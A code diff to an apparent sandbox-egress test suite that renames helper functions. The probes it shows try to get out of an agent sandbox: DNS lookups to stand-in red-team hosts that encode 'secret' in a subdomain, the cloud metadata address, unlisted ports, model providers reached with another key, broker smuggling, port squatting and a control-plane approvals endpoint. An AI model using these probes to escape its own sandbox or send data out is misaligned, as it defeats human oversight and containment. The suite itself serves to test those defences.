@@ -6,7 +6,7 @@ import os
 import socket
 from collections.abc import Callable, Iterator
 
-from .attempts import Attempt, Facts, Skipped, got
+from .attempts import Attempt, Facts, SkipAttempt, collect
 
 BROKER, PROXY = 8082, 3128
 SECONDS = 6
@@ -80,7 +80,7 @@ def _say(port: int, request: bytes) -> str:
     return answer.split(b"\r\n", 1)[0].decode("latin-1") or "closed"
 
 
-def _passed(line: str) -> str | None:
+def _acceptance(line: str) -> str | None:
     """Return None for a refusal: a status of 400 or more, or a closed connection."""
     words = line.split()
     if len(words) < 2 or not words[1].isdigit():
@@ -91,9 +91,9 @@ def _passed(line: str) -> str | None:
 def _send_request(port: int, request: bytes) -> Callable[[], object]:
     def act() -> object:
         try:
-            return _passed(_say(port, request))
+            return _acceptance(_say(port, request))
         except ConnectionRefusedError as error:
-            raise Skipped(f"nothing listens at port {port}") from error
+            raise SkipAttempt(f"nothing listens at port {port}") from error
         except (ConnectionError, TimeoutError):
             return None
 
@@ -125,7 +125,7 @@ def straight_out(_facts: Facts) -> str:
 
     kinds = (("tcp", socket.SOCK_STREAM), ("udp", socket.SOCK_DGRAM))
     tries = [(f"{name} {at[0]}", reach(at, kind)) for at in BESIDE for name, kind in kinds]
-    return got([*tries, ("icmp", _ping), ("interfaces", _interfaces), ("packets", _packets)])
+    return collect([*tries, ("icmp", _ping), ("interfaces", _interfaces), ("packets", _packets)])
 
 
 def _ping() -> object:
@@ -150,7 +150,7 @@ def lookups(_facts: Facts) -> str:
     def look() -> object:
         return socket.getaddrinfo("secret.atoll-redteam.example", 80)
 
-    return got([("a name", look)])
+    return collect([("a name", look)])
 
 
 def inward(facts: Facts) -> str:
@@ -163,24 +163,24 @@ def inward(facts: Facts) -> str:
             at = f"{host}:{port}"
             tries.append((f"CONNECT {at}", _send_request(PROXY, _connect(at))))
             tries.append((f"GET {at}", _send_request(PROXY, _get(f"http://{at}/", at))))
-    return got(tries)
+    return collect(tries)
 
 
 def ports(facts: Facts) -> str:
     """Reach ports that are on no list, and values that are no port (threat 67)."""
     if facts.text("mode") == "full":
-        raise Skipped("the network mode is full: any port of a public address is allowed")
+        raise SkipAttempt("the network mode is full: any port of a public address is allowed")
     odd = ("github.com:22", "github.com:25", "github.com:0", "github.com:443x", "github.com",
            "github.com:65536", "github.com:-1", ":443")  # fmt: skip
-    return got((authority, _send_request(PROXY, _connect(authority))) for authority in odd)
+    return collect((authority, _send_request(PROXY, _connect(authority))) for authority in odd)
 
 
 def unlisted(facts: Facts) -> str:
     """Reach names that are on no list (threat 62)."""
     if facts.text("mode") == "full":
-        raise Skipped("the network mode is full")
+        raise SkipAttempt("the network mode is full")
     name = "c2VjcmV0.atoll-redteam.example"
-    return got([
+    return collect([
         ("CONNECT", _send_request(PROXY, _connect(f"{name}:443"))),
         ("GET", _send_request(PROXY, _get(f"http://{name}/", name))),
     ])  # fmt: skip
@@ -188,7 +188,7 @@ def unlisted(facts: Facts) -> str:
 
 def providers(_facts: Facts) -> str:
     """Reach a model provider through the egress door, with another key (threat 76)."""
-    return got((host, _send_request(PROXY, _connect(f"{host}:443"))) for host in PROVIDERS)
+    return collect((host, _send_request(PROXY, _connect(f"{host}:443"))) for host in PROVIDERS)
 
 
 def smuggling(_facts: Facts) -> str:
@@ -201,7 +201,7 @@ def smuggling(_facts: Facts) -> str:
             broker = _get("/broker/openai/v1/models", "127.0.0.1", more)
             yield f"broker, {name}", _send_request(BROKER, broker)
 
-    return got(tries())
+    return collect(tries())
 
 
 def squatting(_facts: Facts) -> str:
@@ -221,7 +221,7 @@ def squatting(_facts: Facts) -> str:
         (socket.AF_INET, "127.0.0.1"), (socket.AF_INET, "0.0.0.0"),  # noqa: S104
         (socket.AF_INET6, "::1"), (socket.AF_INET6, "::"),
     )  # fmt: skip
-    return got(
+    return collect(
         (f"{host} {port}", take(family, host, port))
         for family, host in hosts
         for port in (BROKER, PROXY)
@@ -238,7 +238,7 @@ def broker_names(_facts: Facts) -> str:
         ("CONNECT", _send_request(BROKER, _connect("127.0.0.1:22"))),
         ("absolute", _send_request(BROKER, _get("http://169.254.169.254/", "169.254.169.254"))),
     ]
-    return got(tries)
+    return collect(tries)
 
 
 def control_plane(facts: Facts) -> str:
@@ -250,7 +250,7 @@ def control_plane(facts: Facts) -> str:
             return "connected"
 
     at = f"{host}:{port}"
-    return got([
+    return collect([
         ("straight", straight),
         ("by the egress door", _send_request(PROXY, _get(f"http://{at}/v1/approvals", at))),
         ("by the broker", _send_request(BROKER, _get("/v1/approvals", "127.0.0.1"))),
